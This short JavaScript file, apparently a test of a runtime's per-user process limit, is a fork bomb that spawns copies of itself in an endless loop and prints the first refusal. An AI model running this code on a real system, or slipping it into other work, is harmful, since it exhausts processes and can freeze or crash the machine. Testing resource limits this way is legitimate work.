// A fork bomb: spawns copies of itself without end, each of which does the same. The per-user
// process limit refuses what is beyond it; the first refusal is printed.
let refused = 0;
for (;;) {
    try {
        ssi.spawn('forkbomb.js');
    } catch (e) {
        if (refused++ === 0) {
            console.log(e.message);
        }
    }
}
